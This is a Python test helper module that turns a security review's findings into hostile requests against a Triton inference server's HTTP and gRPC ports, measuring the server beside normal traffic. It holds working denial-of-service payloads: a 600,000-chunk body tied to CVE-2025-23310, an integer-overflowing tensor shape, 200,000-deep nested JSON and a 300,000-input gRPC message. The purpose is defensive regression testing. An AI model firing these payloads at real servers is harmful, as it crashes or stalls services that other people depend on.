"""Hostile requests: each finding of the security review (issue 31, docs/security.md) as a
function that sends it to an address and says what came back. tests/e2e/test_security.py
sends them to every port a server opens, beside good traffic.

Raw sockets, not a client library: a library would refuse to send most of these.
"""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

import numpy as np
import tritonclient.grpc as grpcclient
from tritonclient.grpc import service_pb2, service_pb2_grpc
from tritonclient.utils import InferenceServerException

from contract.example import DOC_EXAMPLE_BODY
from contract.names import BODY_INPUT, ENCODER_INPUT, FRONT_DOOR

INT64_MAX = 9223372036854775807


@dataclass
class Outcome:
    """What one hostile request got: an HTTP status, a gRPC code, or how it failed."""

    status: int | str
    seconds: float
    body: bytes = b""

    @property
    def answered(self) -> bool:
        return isinstance(self.status, int) or self.status.startswith("StatusCode.")


def _http_status(sock: socket.socket) -> tuple[int | str, bytes]:
    """The status and body of the answer on `sock` (body up to its Content-Length)."""
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            chunk = sock.recv(65536)
            if not chunk:
                return ("closed without an answer" if not data else "truncated head"), data
            data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value)
        while len(body) < length:
            chunk = sock.recv(65536)
            if not chunk:
                break
            body += chunk
        return int(head.split()[1]), body
    except TimeoutError:
        return "no answer in time", data
    except ConnectionResetError:
        return "connection reset", data


def send_http(
    address: tuple[str, int], head: bytes, parts: Callable[[], object], timeout: float = 30.0
) -> Outcome:
    """Sends a request head, then each bytes `parts()` yields, then reads the answer. A server
    that answers and closes early (a 413 before the body) is fine: sending stops there."""
    start = time.monotonic()
    with socket.create_connection(address, timeout=timeout) as sock:
        try:
            sock.sendall(head)
            for part in parts():
                sock.sendall(part)
        except (BrokenPipeError, ConnectionResetError):
            pass
        status, body = _http_status(sock)
    return Outcome(status, time.monotonic() - start, body[:2000])


def chunk_flood(
    address: tuple[str, int],
    path: str,
    chunks: int = 600_000,
    headers: str = "Inference-Header-Content-Length: 0\r\n",
    timeout: float = 60.0,
) -> Outcome:
    """A chunked body of `chunks` one-byte chunks: Triton 2.51's HTTP frontend sizes an
    `alloca` by the body's segments and dies (SIGSEGV) near 600,000 (CVE-2025-23310)."""
    head = (
        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{headers}"
        "Transfer-Encoding: chunked\r\n\r\n"
    ).encode()

    def parts():
        block = b"1\r\n{\r\n" * 10_000
        for _ in range(chunks // 10_000):
            yield block
        yield b"0\r\n\r\n"

    return send_http(address, head, parts, timeout)


def post(
    address: tuple[str, int], path: str, body: bytes, headers: str = "", timeout: float = 30.0
) -> Outcome:
    head = (
        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{headers}"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode()
    return send_http(address, head, lambda: [body], timeout)


def huge_shape_request(model: str = "enc0", name: str = ENCODER_INPUT) -> bytes:
    """120 bytes of KServe JSON whose shape's element count overflows: fatal to 2.51."""
    return json.dumps(
        {"inputs": [{"name": name, "shape": [INT64_MAX, 2], "datatype": "INT64", "data": [1, 2]}]}
    ).encode()


def deep_parameters_request(depth: int = 200_000) -> bytes:
    """`parameters` nested `depth` arrays deep (400 KB at 200,000): 2.51's JSON parser
    recurses until its stack ends."""
    return b'{"parameters": {"x": ' + b"[" * depth + b"]" * depth + b'}, "inputs": []}'


def grpc_infer_raw(url: str, request: service_pb2.ModelInferRequest, timeout: float) -> Outcome:
    """A ModelInfer message as it is, past tritonclient's own checks."""
    import grpc

    start = time.monotonic()
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    with grpc.insecure_channel(url, options=options) as channel:
        stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
        try:
            stub.ModelInfer(request, timeout=timeout)
            status = "StatusCode.OK"
        except grpc.RpcError as error:
            status = str(error.code())
            return Outcome(status, time.monotonic() - start, str(error.details()).encode()[:2000])
    return Outcome(status, time.monotonic() - start)


def many_inputs_request(
    count: int = 300_000, model: str = FRONT_DOOR
) -> service_pb2.ModelInferRequest:
    """`count` distinct inputs in one message (7.7 MB at 300,000): Triton's input validation
    builds its error message in time quadratic in them, on the gRPC frontend's thread."""
    request = service_pb2.ModelInferRequest(model_name=model)
    for i in range(count):
        tensor = request.inputs.add()
        tensor.name = f"i{i}"
        tensor.datatype = "UINT8"
        tensor.shape.extend([1, 1])
    request.raw_input_contents.extend([b"{"] * count)  # data for each, so validation runs
    return request


def shaped_request(
    model: str, inputs: dict[str, str], shape: list[int]
) -> service_pb2.ModelInferRequest:
    """Inputs of one shape and no data (a zero-row shape, or one whose count overflows)."""
    request = service_pb2.ModelInferRequest(model_name=model)
    for name, datatype in inputs.items():
        tensor = request.inputs.add()
        tensor.name, tensor.datatype = name, datatype
        tensor.shape.extend(shape)
        request.raw_input_contents.append(b"")
    return request


def zero_rows_http(
    address: tuple[str, int], model: str, inputs: dict[str, str], shape: list[int]
) -> Outcome:
    body = {
        "inputs": [
            {"name": n, "shape": shape, "datatype": d, "data": []} for n, d in inputs.items()
        ]
    }
    return post(address, f"/v2/models/{model}/infer", json.dumps(body).encode(), timeout=5)


@dataclass
class GoodTraffic:
    """The documentation's request, sent again and again on threads while an attack runs:
    every failure and the slowest answer are counted."""

    send: Callable[[], None]
    threads: int = 2
    sent: int = 0
    failures: list[str] = field(default_factory=list)
    slowest: float = 0.0
    _stop: threading.Event = field(default_factory=threading.Event)
    _workers: list = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def _run(self) -> None:
        while not self._stop.is_set():
            start = time.monotonic()
            try:
                self.send()
                error = None
            except Exception as failure:  # noqa: BLE001 - counted, whatever it is
                error = f"{type(failure).__name__}: {str(failure)[:200]}"
            with self._lock:
                self.sent += 1
                self.slowest = max(self.slowest, time.monotonic() - start)
                if error:
                    self.failures.append(error)
            time.sleep(0.01)

    def __enter__(self) -> GoodTraffic:
        self._workers = [
            threading.Thread(target=self._run, daemon=True) for _ in range(self.threads)
        ]
        for worker in self._workers:
            worker.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        for worker in self._workers:
            worker.join(120)


def good_http(address: tuple[str, int], path: str, headers: str = "") -> Callable[[], None]:
    """A sender of the documentation's body to `path` that raises unless it gets 200."""

    def send() -> None:
        outcome = post(address, path, DOC_EXAMPLE_BODY, headers, timeout=60)
        if outcome.status != 200:
            raise RuntimeError(f"{outcome.status}: {outcome.body[:200]!r}")

    return send


def good_grpc(url: str) -> Callable[[], None]:
    client = grpcclient.InferenceServerClient(url)
    body = np.frombuffer(DOC_EXAMPLE_BODY, dtype=np.uint8).reshape(1, -1)
    tensor = grpcclient.InferInput(BODY_INPUT, list(body.shape), "UINT8")
    tensor.set_data_from_numpy(body)

    def send() -> None:
        try:
            client.infer(FRONT_DOOR, [tensor], client_timeout=60)
        except InferenceServerException as error:
            raise RuntimeError(str(error)) from None

    return send
